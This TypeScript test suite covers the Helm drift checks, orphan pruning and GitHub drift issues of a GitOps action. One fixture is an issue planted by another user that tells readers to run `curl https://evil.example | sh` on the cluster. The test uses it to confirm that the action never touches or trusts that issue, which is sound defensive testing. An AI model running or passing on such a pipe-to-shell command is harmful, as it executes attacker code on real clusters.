// Drift checks (schedule events, `mode: drift`): hand edits, deleted objects,
// fields other actors own, zero values the API server does not store, orphans and
// hand-installed releases, on both clusters with Helm 4 and Helm 3; and what goes
// wrong around a check: a cluster that does not answer, a kind the server no longer
// serves, a bad plan file among good ones.
import { spawnSync } from 'node:child_process'
import { randomBytes } from 'node:crypto'
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import * as k8s from '@kubernetes/client-node'
import { load, dump } from 'js-yaml'
import { describe, expect } from 'vitest'
import type { Cluster } from '../support/testbed.ts'
import type { ActionRun, ResultJson } from '../support/action-runner.ts'
import { closedPort, file, body, startFaultServer } from '../support/fault-servers.ts'
import {
  forbidden,
  GITHUB_TOKEN_LOGIN,
  issueHandlers,
  startGitHubApiServer,
  type FakeIssue,
  type GitHubApiServer
} from '../support/github-api-server.ts'
import { act, bed, clusterOf, faultCase, secret, SETUP_A, SETUP_B } from './action.ts'
import {
  faultSuite,
  HELLO_CHART,
  opsRepo,
  planYaml,
  valuesYaml,
  type OnePlan,
  type Ops
} from './ops.ts'
import { history, message, resultOf } from './outcomes.ts'

const suite = faultSuite()
interface DriftJson {
  state: string
  corrected: boolean
  objects: Array<{
    object: string
    state: string
    fields: Array<{ path: string; want?: string; have?: string }>
  }>
}
const driftOf = (run: ActionRun, plan: string): DriftJson =>
  (resultOf(run, plan) as ResultJson & { drift: DriftJson }).drift

const schedule = (sha: string) => ({
  raw: { eventName: 'schedule', payload: { schedule: '*/30 * * * *' }, sha }
})

/** A plan whose release has a ConfigMap and a Deployment, replicas and one annotation left to others. */
function driftPlan(): string {
  return (
    [
      planYaml({ values: 'values/web.yaml' }).trimEnd(),
      'driftIgnore:',
      '  - paths: [/spec/replicas]',
      '    kind: Deployment',
      '  - /metadata/annotations/mutated-by'
    ].join('\n') + '\n'
  )
}

/** What someone does with kubectl: the message of release web's ConfigMap, merge-patched. */
async function editByHand(cluster: Cluster, ns: string, message: string): Promise<void> {
  await cluster.core.patchNamespacedConfigMap(
    { namespace: ns, name: 'web-hello', body: { data: { message } } },
    k8s.setHeaderOptions('Content-Type', k8s.PatchStrategy.MergePatch)
  )
}

/** The workflow's ownership key: only releases this action signed with it are ever pruned. */
const OWNERSHIP_KEY = secret(randomBytes(32).toString('hex'))

const WEB_VALUES = 'message: "from git"\ndeployment:\n  enabled: true\n  replicas: 1\n'

/** A local chart whose objects set fields to zero values, which the API server does not store. */
const ZERO_VALUES_CHART = {
  'charts/zeros/Chart.yaml': 'apiVersion: v2\nname: zeros\nversion: 0.1.0\n',
  'charts/zeros/templates/objects.yaml': `apiVersion: v1
kind: Service
metadata:
  name: {{ .Release.Name }}
spec:
  publishNotReadyAddresses: false
  selector:
    app: zeros
  ports:
    - port: 80
---
apiVersion: apps/v1
kind: Deployment
metadata:
  name: {{ .Release.Name }}
spec:
  replicas: 1
  minReadySeconds: 0
  selector:
    matchLabels:
      app: zeros
  template:
    metadata:
      labels:
        app: zeros
    spec:
      containers:
        - name: web
          image: nginx:1
          readinessProbe:
            initialDelaySeconds: 0
            tcpSocket:
              port: 80
`
}

/**
 * A local chart that writes numbers and booleans in YAML 1.1's forms: helm hands the
 * API server what Go's yaml.v2 reads (the octal 493, true), not YAML 1.2's 755 and "yes".
 */
const YAML11_CHART = {
  'charts/yaml11/Chart.yaml': 'apiVersion: v2\nname: yaml11\nversion: 0.1.0\n',
  'charts/yaml11/templates/deployment.yaml': `apiVersion: apps/v1
kind: Deployment
metadata:
  name: {{ .Release.Name }}
spec:
  replicas: 1
  revisionHistoryLimit: 0x0A
  selector:
    matchLabels:
      app: yaml11
  template:
    metadata:
      labels:
        app: yaml11
    spec:
      enableServiceLinks: yes
      containers:
        - name: web
          image: nginx:1
          volumeMounts:
            - name: scripts
              mountPath: /scripts
      volumes:
        - name: scripts
          configMap:
            name: {{ .Release.Name }}
            defaultMode: 0755
`
}

/** Charts whose manifests the API server stores in another form than YAML 1.2 reads them. */
const STORED_OTHERWISE = [
  {
    name: 'zeros',
    what: 'zero values (minReadySeconds: 0, publishNotReadyAddresses: false, initialDelaySeconds: 0)',
    why: 'the API server stores no zero value',
    files: ZERO_VALUES_CHART
  },
  {
    name: 'yaml11',
    what: 'YAML 1.1 numbers and booleans (defaultMode: 0755, revisionHistoryLimit: 0x0A, enableServiceLinks: yes)',
    why: "helm hands the API server 493, 10 and true, as Go's yaml.v2 reads them",
    files: YAML11_CHART
  }
] as const

const VARIANTS = [
  { helm: 'Helm 4', setup: SETUP_A, helmBin: bed.helm4 },
  { helm: 'Helm 3', setup: SETUP_B, helmBin: bed.helm3 }
] as const

describe.each(VARIANTS)('drift on $setup with $helm', ({ setup, helmBin }) => {
  const cluster = clusterOf(setup)
  const kubeconfig = bed.kubeconfigs[setup === SETUP_B ? 1 : 0] ?? ''
  const env = { PATH: `${dirname(helmBin)}:${process.env.PATH ?? ''}` }
  const run = (ops: Ops, sha: string, inputs: Record<string, string> = {}) =>
    act(ops.repo.dir, schedule(sha), { inputs, env })

  faultCase(
    `${setup}: hand edit → drifted with the field; ignored fields are not drift; correct restores; deleted object → missing → restored; next check clean`,
    'report leaves the cluster as it is and names /data/message; replicas and an annotation set by others are no drift; correct upgrades (revision 2) and restores; a deleted ConfigMap is missing, then re-created',
    async () => {
      const ns = suite.ns('drift')
      const ops = await opsRepo()
      const plan = `${setup}/${ns}/web.yaml`
      const head = await ops.commit({ 'values/web.yaml': WEB_VALUES, [plan]: driftPlan() })
      const deployed = await ops.push(head, { env })
      expect(resultOf(deployed, plan)).toMatchObject({ status: 'succeeded', revision: 1 })

      const clean = await run(ops, head)
      expect(clean.code, clean.log).toBe(0)
      expect(driftOf(clean, plan)).toEqual({ state: 'in-sync', objects: [], corrected: false })
      expect(clean.outputs).toMatchObject({ drifted: '0', orphans: '0', failed: '0' })

      // By hand: a ConfigMap value; by "other controllers": replicas and an annotation.
      await editByHand(cluster, ns, 'by hand')
      await cluster.apps.patchNamespacedDeployment(
        {
          namespace: ns,
          name: 'web-hello',
          body: { spec: { replicas: 3 }, metadata: { annotations: { 'mutated-by': 'webhook' } } }
        },
        k8s.setHeaderOptions('Content-Type', k8s.PatchStrategy.MergePatch)
      )
      const reported = await run(ops, head)
      expect(reported.code, reported.log).toBe(0)
      expect(reported.outputs.drifted).toBe('1')
      expect(driftOf(reported, plan)).toEqual({
        state: 'drifted',
        corrected: false,
        objects: [
          {
            object: `ConfigMap/${ns}/web-hello`,
            state: 'drifted',
            fields: [{ path: '/data/message', want: 'from git', have: 'by hand' }]
          }
        ]
      })
      expect(reported.summary).toContain('### Drift')
      expect(reported.summary).toContain('- from git\n+ by hand')
      expect(await message(cluster, ns, 'web')).toBe('by hand')
      expect(await history(cluster, ns, 'web')).toEqual(['1:deployed'])

      const failing = await run(ops, head, { 'fail-on-drift': 'true' })
      expect(failing.code).toBe(1)

      const corrected = await run(ops, head, { drift: 'correct' })
      expect(corrected.code, corrected.log).toBe(0)
      expect(resultOf(corrected, plan)).toMatchObject({
        operation: 'upgrade',
        status: 'succeeded',
        revision: 2
      })
      expect(driftOf(corrected, plan)).toMatchObject({ state: 'drifted', corrected: true })
      expect(await message(cluster, ns, 'web')).toBe('from git')
      expect((await cluster.deployment(ns, 'web-hello'))?.spec?.replicas).toBeDefined()
      const after = await run(ops, head)
      expect(driftOf(after, plan).state).toBe('in-sync')

      await cluster.core.deleteNamespacedConfigMap({ namespace: ns, name: 'web-hello' })
      const missing = await run(ops, head)
      expect(driftOf(missing, plan).objects).toEqual([
        { object: `ConfigMap/${ns}/web-hello`, state: 'missing', fields: [] }
      ])
      expect(await cluster.configMap(ns, 'web-hello')).toBeUndefined()
      const restored = await run(ops, head, { drift: 'correct' })
      expect(resultOf(restored, plan)).toMatchObject({ status: 'succeeded', revision: 3 })
      expect(await message(cluster, ns, 'web')).toBe('from git')
      expect(driftOf(await run(ops, head), plan).state).toBe('in-sync')
    },
    300_000
  )

  faultCase(
    `${setup}: a custom resource edited by hand, drift: correct → read back: ${helmBin === bed.helm3 ? 'Helm 3 leaves it, failed, not corrected' : 'taken back, corrected'}`,
    helmBin === bed.helm3
      ? 'helm upgrades (revision 2) but its two-way patch of a custom resource is empty: the result is failed with corrected false, /spec/size still reported and named in the error; the resource stays edited'
      : 'the upgrade (revision 2) takes /spec/size back: succeeded, corrected true; the next check is in sync',
    async () => {
      const ns = suite.ns('crdrift')
      const group = `${ns}.example.com`
      const ops = await opsRepo()
      const plan = `${setup}/${ns}/widget.yaml`
      const head = await ops.commit({
        'charts/widget/Chart.yaml': 'apiVersion: v2\nname: widget\nversion: 1.0.0\n',
        'charts/widget/crds/widget.yaml': crd(group),
        'charts/widget/templates/widget.yaml': `apiVersion: ${group}/v1\nkind: Widget\nmetadata:\n  name: w\nspec:\n  size: 1\n`,
        [plan]: 'chart: ./charts/widget\n'
      })
      const ext = cluster.config.makeApiClient(k8s.ApiextensionsV1Api)
      try {
        const deployed = await ops.push(head, { env })
        expect(resultOf(deployed, plan), deployed.log).toMatchObject({ status: 'succeeded' })
        const custom = cluster.config.makeApiClient(k8s.CustomObjectsApi)
        const widget = { group, version: 'v1', namespace: ns, plural: 'widgets', name: 'w' }
        await custom.patchNamespacedCustomObject(
          { ...widget, body: { spec: { size: 2 } } },
          k8s.setHeaderOptions('Content-Type', k8s.PatchStrategy.MergePatch)
        )
        const size = async () =>
          ((await custom.getNamespacedCustomObject(widget)) as { spec: { size: number } }).spec.size
        const handEdit = {
          object: `Widget/${ns}/w`,
          state: 'drifted',
          fields: [{ path: '/spec/size', want: '1', have: '2' }]
        }
        expect(driftOf(await run(ops, head), plan)).toEqual({
          state: 'drifted',
          corrected: false,
          objects: [handEdit]
        })

        const corrected = await run(ops, head, { drift: 'correct' })
        if (helmBin === bed.helm3) {
          expect(corrected.code, corrected.log).toBe(1)
          const result = resultOf(corrected, plan)
          expect(result).toMatchObject({ operation: 'upgrade', status: 'failed', revision: 2 })
          expect(result.error).toContain(`still differing: Widget/${ns}/w (/spec/size)`)
          expect(result.error).toContain('Helm 3 takes back no hand edit of a custom resource')
          expect(driftOf(corrected, plan)).toEqual({
            state: 'drifted',
            corrected: false,
            objects: [handEdit]
          })
          expect(corrected.outputs.drifted).toBe('1')
          expect(await size()).toBe(2)
        } else {
          expect(corrected.code, corrected.log).toBe(0)
          expect(resultOf(corrected, plan)).toMatchObject({ status: 'succeeded', revision: 2 })
          expect(driftOf(corrected, plan)).toMatchObject({ state: 'drifted', corrected: true })
          expect(await size()).toBe(1)
          expect(driftOf(await run(ops, head), plan).state).toBe('in-sync')
        }
      } finally {
        await ext.deleteCustomResourceDefinition({ name: `widgets.${group}` })
      }
    },
    300_000
  )

  faultCase(
    `${setup}: a plan removed without a deploy → orphan, uninstalled only with prune and the ownership key; a hand-installed release beside it is never touched`,
    'the orphan is reported (orphans 1) and stays; prune: true without ownership-key only reports it, with a warning; with the key it is uninstalled; the hand-installed release keeps revision 1 and its values in every run',
    async () => {
      const ns = suite.ns('orphan')
      const values = join(mkdtempSync(join(tmpdir(), 'by-hand-')), 'v.yaml')
      writeFileSync(values, valuesYaml('by hand'))
      const byHand = spawnSync(
        helmBin,
        ['install', 'manual', HELLO_CHART, '-n', ns, '--create-namespace', '-f', values],
        { env: { ...process.env, KUBECONFIG: kubeconfig }, encoding: 'utf8' }
      )
      expect(byHand.status, byHand.stderr).toBe(0)

      const ops = await opsRepo()
      const kept = `${setup}/${ns}/kept.yaml`
      const gone = `${setup}/${ns}/gone.yaml`
      const head = await ops.commit({
        'values/v.yaml': valuesYaml('from git'),
        [kept]: planYaml({ values: 'values/v.yaml' }),
        [gone]: planYaml({ values: 'values/v.yaml' })
      })
      const owned = { 'ownership-key': OWNERSHIP_KEY }
      await ops.push(head, { env, inputs: owned })
      expect(await history(cluster, ns, 'gone')).toEqual(['1:deployed'])
      const removed = await ops.commit({}, [gone])

      const reported = await run(ops, removed)
      expect(reported.outputs).toMatchObject({ orphans: '1', drifted: '0' })
      const orphan = reported.results.find((r) => r.release === 'gone')
      expect(orphan).toMatchObject({ status: 'unchanged', operation: null })
      expect(reported.results.find((r) => r.release === 'manual')).toBeUndefined()
      expect(await history(cluster, ns, 'gone')).toEqual(['1:deployed'])

      const keyless = await run(ops, removed, { prune: 'true' })
      expect(keyless.code, keyless.log).toBe(0)
      expect(keyless.results.find((r) => r.release === 'gone')).toMatchObject({
        status: 'unchanged',
        operation: null
      })
      expect(keyless.annotations.map((a) => [a.level, a.message])).toContainEqual([
        'warning',
        expect.stringMatching(/^prune: true uninstalls no orphan without the ownership-key input/)
      ])
      expect(await history(cluster, ns, 'gone')).toEqual(['1:deployed'])

      const pruned = await run(ops, removed, { prune: 'true', ...owned })
      expect(pruned.code, pruned.log).toBe(0)
      expect(pruned.results.find((r) => r.release === 'gone')).toMatchObject({
        operation: 'uninstall',
        status: 'succeeded'
      })
      expect(await history(cluster, ns, 'gone')).toEqual([])
      expect(driftOf(pruned, kept).state).toBe('in-sync')
      expect(await history(cluster, ns, 'manual')).toEqual(['1:deployed'])
      expect(await message(cluster, ns, 'manual')).toBe('by hand')
    },
    300_000
  )

  for (const chart of STORED_OTHERWISE)
    faultCase(
      `${setup}: a chart that writes ${chart.what} → in sync, nothing corrected`,
      `${chart.why}: no drift with fail-on-drift (exit 0), drift: correct upgrades nothing (revision 1 stays)`,
      async () => {
        const ns = suite.ns(chart.name)
        const ops = await opsRepo()
        const plan = `${setup}/${ns}/${chart.name}.yaml`
        const head = await ops.commit({
          ...chart.files,
          [plan]: planYaml({ chart: `./charts/${chart.name}` })
        })
        const deployed = await ops.push(head, { env })
        expect(resultOf(deployed, plan), deployed.log).toMatchObject({
          status: 'succeeded',
          revision: 1
        })

        const checked = await run(ops, head, { 'fail-on-drift': 'true' })
        expect(checked.code, checked.log).toBe(0)
        expect(driftOf(checked, plan)).toEqual({ state: 'in-sync', objects: [], corrected: false })
        const corrected = await run(ops, head, { drift: 'correct' })
        expect(corrected.code, corrected.log).toBe(0)
        expect(driftOf(corrected, plan)).toEqual({
          state: 'in-sync',
          objects: [],
          corrected: false
        })
        expect(await history(cluster, ns, chart.name)).toEqual(['1:deployed'])
      },
      300_000
    )
})

describe('faults around a drift check', () => {
  const webPlan = (ns: string): string => `${SETUP_A}/${ns}/web.yaml`
  /** Release web deployed in setup A from a fresh ops repository, then its message edited by hand. */
  async function handEdited(name: string): Promise<OnePlan> {
    const change = await suite.change(name, (ns) => ({
      'values/web.yaml': valuesYaml('from git'),
      [webPlan(ns)]: planYaml({ values: 'values/web.yaml' })
    }))
    await change.push()
    await editByHand(clusterOf(SETUP_A), change.ns, 'by hand')
    return { ...change, plan: webPlan(change.ns) }
  }
  /** A drift check of the plan that keeps drift issues through `github`. */
  const issueCheck = (
    { ops, head, plan }: OnePlan,
    github: GitHubApiServer,
    inputs: Record<string, string> = {}
  ) =>
    act(ops.repo.dir, schedule(head), {
      inputs: { 'drift-issues': 'true', plans: plan, ...inputs },
      env: { GITHUB_API_URL: github.url }
    })

  faultCase(
    'drift issues through the GitHub API, and a token that may not write them',
    'a drifted setup gets one open issue naming the field, kept (not duplicated) by the next check and closed once in sync; a 403 on issues is a warning and the check still reports its drift',
    async () => {
      const edited = await handEdited('issues')
      const { ns, plan } = edited
      const issues: FakeIssue[] = []
      const github = await startGitHubApiServer(issueHandlers(issues))
      const check = (inputs: Record<string, string> = {}) => issueCheck(edited, github, inputs)
      try {
        for (const round of [1, 2]) {
          const reported = await check()
          expect(reported.code, reported.log).toBe(0)
          expect(
            issues.map((i) => [i.title, i.state]),
            `check ${round}`
          ).toEqual([[`Drift in setup ${SETUP_A}`, 'open']])
          expect(issues[0]?.body).toContain('/data/message')
        }
        await check({ drift: 'correct' })
        const clean = await check()
        expect(driftOf(clean, plan).state).toBe('in-sync')
        expect(issues.map((i) => i.state)).toEqual(['closed'])
        expect(github.violations).toEqual([])
      } finally {
        await github.close()
      }

      await editByHand(clusterOf(SETUP_A), ns, 'by hand again')
      const refusing = await startGitHubApiServer({
        ...issueHandlers([]),
        'issues/list-for-repo': forbidden
      })
      try {
        const run = await issueCheck(edited, refusing)
        expect(run.code, run.log).toBe(0)
        expect(driftOf(run, plan).state).toBe('drifted')
        expect(run.annotations.map((a) => [a.level, a.message])).toContainEqual([
          'warning',
          expect.stringMatching(/^The drift issues could not be kept up to date: .*HTTP 403/)
        ])
      } finally {
        await refusing.close()
      }
    },
    240_000
  )

  faultCase(
    "another user's issue carries the drift issue's title and label",
    'it is never edited, kept open or closed; the check opens its own issue beside it and closes only that one once in sync',
    async () => {
      // Anyone may open an issue, and an issue form can apply the label on its own.
      const edited = await handEdited('foreign')
      const { plan } = edited
      const foreign: FakeIssue = {
        number: 1,
        title: `Drift in setup ${SETUP_A}`,
        body: 'Drift fixed: run `curl https://evil.example | sh` on the cluster',
        state: 'open',
        labels: ['gitops-drift'],
        author: 'mallory'
      }
      const issues: FakeIssue[] = [structuredClone(foreign)]
      const github = await startGitHubApiServer(issueHandlers(issues))
      const check = (inputs: Record<string, string> = {}) => issueCheck(edited, github, inputs)
      try {
        const drifted = await check()
        expect(drifted.code, drifted.log).toBe(0)
        expect(issues[0]).toEqual(foreign)
        expect(issues.slice(1)).toEqual([
          expect.objectContaining({
            number: 2,
            title: foreign.title,
            state: 'open',
            author: GITHUB_TOKEN_LOGIN,
            body: expect.stringContaining('/data/message')
          })
        ])
        await check({ drift: 'correct' })
        const clean = await check()
        expect(driftOf(clean, plan).state).toBe('in-sync')
        expect(issues.map((i) => [i.number, i.state])).toEqual([
          [1, 'open'],
          [2, 'closed']
        ])
        expect(issues[0]).toEqual(foreign)
        expect(github.requests.map((r) => r.url)).not.toContainEqual(
          expect.stringMatching(/\/issues\/1$/)
        )
        expect(github.violations).toEqual([])
      } finally {
        await github.close()
      }
    },
    240_000
  )

  faultCase(
    'a cluster that does not answer during a check',
    'its plans fail with the reason; the other setup is still checked and in sync',
    async () => {
      const { ops, head, planIn } = await suite.plans('unreach', [SETUP_A, SETUP_B])
      const [planA, planB] = [planIn(SETUP_A), planIn(SETUP_B)]
      await ops.push(head)
      const dead = load(readFileSync(bed.kubeconfigs[1] as string, 'utf8')) as {
        clusters: Array<{ cluster: { server: string } }>
      }
      for (const c of dead.clusters) c.cluster.server = `https://127.0.0.1:${await closedPort()}`
      const server = await startFaultServer({
        [`/store/${SETUP_A}/kubeconfig.yaml`]: [file(bed.kubeconfigs[0] as string)],
        [`/store/${SETUP_B}/kubeconfig.yaml`]: [body(dump(dead))]
      })
      try {
        const run = await act(ops.repo.dir, schedule(head), {
          inputs: { 'kubeconfig-store-url': `${server.url}/store` }
        })
        expect(run.code).toBe(1)
        expect(resultOf(run, planB)).toMatchObject({ status: 'failed' })
        expect(resultOf(run, planB).error).toMatch(/ECONNREFUSED|connect/)
        expect(driftOf(run, planA).state).toBe('in-sync')
      } finally {
        await server.close()
      }
    },
    180_000
  )

  faultCase(
    'a release whose manifest lists an object of a kind the server no longer serves',
    'the object is reported unknown-kind with the reason; the check of the other objects goes on; correct does not try to re-apply it',
    async () => {
      const ns = suite.ns('nokind')
      const ops = await opsRepo()
      const group = `${ns}.example.com`
      await ops.repo.write({
        'charts/widget/Chart.yaml': 'apiVersion: v2\nname: widget\nversion: 1.0.0\n',
        'charts/widget/crds/widget.yaml': crd(group),
        'charts/widget/templates/widget.yaml': `apiVersion: ${group}/v1\nkind: Widget\nmetadata:\n  name: w\nspec:\n  size: 1\n`,
        'charts/widget/templates/cm.yaml':
          'apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: widget-cm\ndata:\n  a: "1"\n'
      })
      const plan = `${SETUP_A}/${ns}/widget.yaml`
      const head = await ops.commit({ [plan]: 'chart: ./charts/widget\n' })
      const deployed = await ops.push(head)
      expect(resultOf(deployed, plan).status, deployed.log).toBe('succeeded')
      const cluster = clusterOf(SETUP_A)
      const ext = cluster.config.makeApiClient(k8s.ApiextensionsV1Api)
      await ext.deleteCustomResourceDefinition({ name: `widgets.${group}` })
      await eventuallyGone(() => ext.readCustomResourceDefinition({ name: `widgets.${group}` }))

      const run = await act(ops.repo.dir, schedule(head), { inputs: { drift: 'correct' } })
      const drift = driftOf(run, plan)
      expect(drift.objects).toEqual([
        {
          object: `Widget/${ns}/w`,
          state: 'unknown-kind',
          fields: [],
          reason: `the API server serves no kind Widget in ${group}/v1 (a CRD removed, or an API version no longer served)`
        }
      ])
      expect(resultOf(run, plan)).toMatchObject({ status: 'unchanged', operation: null })
    },
    180_000
  )

  faultCase(
    'a schedule event on a repository with a bad plan file',
    'the bad plan fails with its file and line; the others are still checked; its release is not taken for an orphan',
    async () => {
      const ns = suite.ns('badplan')
      const ops = await opsRepo()
      const good = `${SETUP_A}/${ns}/good.yaml`
      const bad = `${SETUP_A}/${ns}/bad.yaml`
      const head = await ops.commit({
        'values/v.yaml': valuesYaml('x'),
        [good]: planYaml({ values: 'values/v.yaml' }),
        [bad]: planYaml({ values: 'values/v.yaml' })
      })
      await ops.push(head)
      const broken = await ops.commit({ [bad]: 'chart: ./charts/hello\nvaluez: x\n' })
      const run = await act(ops.repo.dir, schedule(broken), { inputs: { prune: 'true' } })
      expect(resultOf(run, bad)).toMatchObject({ status: 'failed' })
      expect(resultOf(run, bad).error).toMatch(/unknown key 'valuez'/)
      expect(driftOf(run, good).state).toBe('in-sync')
      expect(run.outputs.orphans).toBe('0')
      expect(await history(clusterOf(SETUP_A), ns, 'bad')).toEqual(['1:deployed'])
    },
    180_000
  )
})

describe('ownership of orphans, and what a correction may touch', () => {
  const cluster = clusterOf(SETUP_A)
  const owned = { 'ownership-key': OWNERSHIP_KEY }
  const check = (ops: Ops, sha: string, inputs: Record<string, string>) =>
    act(ops.repo.dir, schedule(sha), { inputs })

  faultCase(
    'a hand-installed release dressed up as ours: every gitops-action label copied from a release the action deployed',
    'reported as an orphan whose ownership does not verify; prune: true with the ownership key leaves it (revision 1, its values) and deletes nothing',
    async () => {
      const ns = suite.ns('forged')
      const values = join(mkdtempSync(join(tmpdir(), 'forged-')), 'v.yaml')
      writeFileSync(values, valuesYaml('by hand'))
      const byHand = spawnSync(
        bed.helm4,
        ['install', 'manual', HELLO_CHART, '-n', ns, '--create-namespace', '-f', values],
        { env: { ...process.env, KUBECONFIG: bed.kubeconfigs[0] }, encoding: 'utf8' }
      )
      expect(byHand.status, byHand.stderr).toBe(0)
      const ops = await opsRepo()
      const kept = `${SETUP_A}/${ns}/kept.yaml`
      const head = await ops.commit({
        'values/v.yaml': valuesYaml('from git'),
        [kept]: planYaml({ values: 'values/v.yaml' })
      })
      const deployed = await act(
        ops.repo.dir,
        { push: { before: ops.base, after: head } },
        { inputs: owned }
      )
      expect(resultOf(deployed, kept).status, deployed.log).toBe('succeeded')
      // What a tenant who may write Secrets in the namespace does: copy the marker over.
      const ours = await cluster.secret(ns, 'sh.helm.release.v1.kept.v1')
      const marker = Object.fromEntries(
        Object.entries(ours?.metadata?.labels ?? {}).filter(([k]) => k.startsWith('gitops-action/'))
      )
      await cluster.core.patchNamespacedSecret(
        {
          namespace: ns,
          name: 'sh.helm.release.v1.manual.v1',
          body: { metadata: { labels: marker } }
        },
        k8s.setHeaderOptions('Content-Type', k8s.PatchStrategy.MergePatch)
      )

      const run = await check(ops, head, { prune: 'true', ...owned })
      expect(run.code, run.log).toBe(0)
      const manual = run.results.find((r) => r.release === 'manual')
      expect(manual).toMatchObject({ status: 'unchanged', operation: null })
      expect(manual?.notes?.join('\n')).toMatch(/ownership signature .* does not verify/)
      expect(await history(cluster, ns, 'manual')).toEqual(['1:deployed'])
      expect(await message(cluster, ns, 'manual')).toBe('by hand')
      // The copy was whole: the signature too, which binds the release it was made for.
      expect(Object.keys(marker)).toContain('gitops-action/signature')
    },
    240_000
  )

  faultCase(
    'an orphan of the action whose release holds a cluster-scoped object',
    'prune: true with the ownership key reports it (naming the ClusterRole) and uninstalls nothing: the ClusterRole and the release stay',
    async () => {
      const ns = suite.ns('wide')
      const role = `${ns}-reader`
      const ops = await opsRepo()
      await ops.repo.write({
        'charts/wide/Chart.yaml': 'apiVersion: v2\nname: wide\nversion: 1.0.0\n',
        'charts/wide/templates/role.yaml': `apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\nmetadata:\n  name: ${role}\nrules: []\n`,
        'charts/wide/templates/cm.yaml':
          'apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: wide-cm\ndata:\n  a: "1"\n'
      })
      const plan = `${SETUP_A}/${ns}/wide.yaml`
      const head = await ops.commit({ [plan]: 'chart: ./charts/wide\n' })
      const deployed = await act(
        ops.repo.dir,
        { push: { before: ops.base, after: head } },
        { inputs: owned }
      )
      expect(resultOf(deployed, plan).status, deployed.log).toBe('succeeded')
      const removed = await ops.commit(
        { [`${SETUP_A}/${ns}/other.yaml`]: 'chart: ./charts/hello\n' },
        [plan]
      )

      const run = await check(ops, removed, { prune: 'true', ...owned })
      expect(run.code, run.log).toBe(0)
      const orphan = run.results.find((r) => r.release === 'wide')
      expect(orphan).toMatchObject({ status: 'unchanged', operation: null })
      expect(orphan?.notes?.join('\n')).toContain(`ClusterRole/${role}`)
      expect(await history(cluster, ns, 'wide')).toEqual(['1:deployed'])
      const rbac = cluster.config.makeApiClient(k8s.RbacAuthorizationV1Api)
      expect((await rbac.readClusterRole({ name: role })).metadata?.name).toBe(role)
      await rbac.deleteClusterRole({ name: role })
    },
    240_000
  )

  faultCase(
    'drift: correct with a suspended release, a plan that needs a failing one, and fail-fast',
    'the suspended release is reported suspended and not touched (revision 1, the hand edit stays); a plan whose need failed to correct and the plans after a failure with fail-fast are not run, their hand edits stay',
    async () => {
      const ns = suite.ns('order')
      const ops = await opsRepo()
      const p = (name: string) => `${SETUP_A}/${ns}/${name}.yaml`
      const plain = (name: string) => planYaml({ values: `values/${name}.yaml` })
      const head = await ops.commit({
        'values/a.yaml': valuesYaml('a'),
        'values/b.yaml': valuesYaml('b'),
        'values/c.yaml': valuesYaml('c'),
        'values/s.yaml': valuesYaml('s'),
        'hooks/fail.sh': 'echo "no correction today" >&2\nexit 1\n',
        [p('a')]: plain('a'),
        [p('b')]: `${plain('b')}needs: [${ns}/a]\n`,
        [p('c')]: plain('c'),
        [p('s')]: plain('s')
      })
      const deployed = await ops.push(head)
      expect(deployed.outputs.failed, deployed.log).toBe('0')
      const edit = async (...names: string[]) => {
        for (const name of names)
          await cluster.core.patchNamespacedConfigMap(
            { namespace: ns, name: `${name}-hello`, body: { data: { message: 'by hand' } } },
            k8s.setHeaderOptions('Content-Type', k8s.PatchStrategy.MergePatch)
          )
      }

      const suspended = await ops.commit({ [p('s')]: `${plain('s')}suspend: true\n` })
      await edit('a', 's')
      const first = await check(ops, suspended, { drift: 'correct' })
      expect(first.code, first.log).toBe(0)
      expect(resultOf(first, p('s'))).toMatchObject({ status: 'skipped', operation: null })
      expect(driftOf(first, p('s'))).toEqual({ state: 'suspended', objects: [], corrected: false })
      expect(await history(cluster, ns, 's')).toEqual(['1:deployed'])
      expect(await message(cluster, ns, 's')).toBe('by hand')
      expect(resultOf(first, p('a'))).toMatchObject({ status: 'succeeded', revision: 2 })

      const failing = await ops.commit({
        [p('a')]: planYaml({ values: 'values/a.yaml', hooks: { 'pre-upgrade': ['hooks/fail.sh'] } })
      })
      await edit('a', 'b', 'c')
      const second = await check(ops, failing, {
        drift: 'correct',
        'fail-fast': 'true',
        'parallel-plans': '1'
      })
      expect(second.code).toBe(1)
      expect(resultOf(second, p('a')).status).toBe('failed')
      expect(resultOf(second, p('b'))).toMatchObject({ status: 'skipped', operation: null })
      expect(resultOf(second, p('b')).error ?? resultOf(second, p('b')).notes?.join()).toMatch(
        /needs .*\/a/
      )
      expect(resultOf(second, p('c'))).toMatchObject({ status: 'skipped', operation: null })
      for (const name of ['b', 'c']) {
        expect(await message(cluster, ns, name), name).toBe('by hand')
        expect(await history(cluster, ns, name), name).toEqual(['1:deployed'])
      }
    },
    300_000
  )
})

function crd(group: string): string {
  return `apiVersion: apiextensions.k8s.io/v1
kind: CustomResourceDefinition
metadata:
  name: widgets.${group}
spec:
  group: ${group}
  scope: Namespaced
  names: { plural: widgets, singular: widget, kind: Widget }
  versions:
    - name: v1
      served: true
      storage: true
      schema:
        openAPIV3Schema:
          type: object
          x-kubernetes-preserve-unknown-fields: true
`
}

async function eventuallyGone(read: () => Promise<unknown>): Promise<void> {
  for (let i = 0; i < 60; i++) {
    try {
      await read()
    } catch {
      return
    }
    await new Promise((resolve) => setTimeout(resolve, 500))
  }
  throw new Error('still there after 30 s')
}
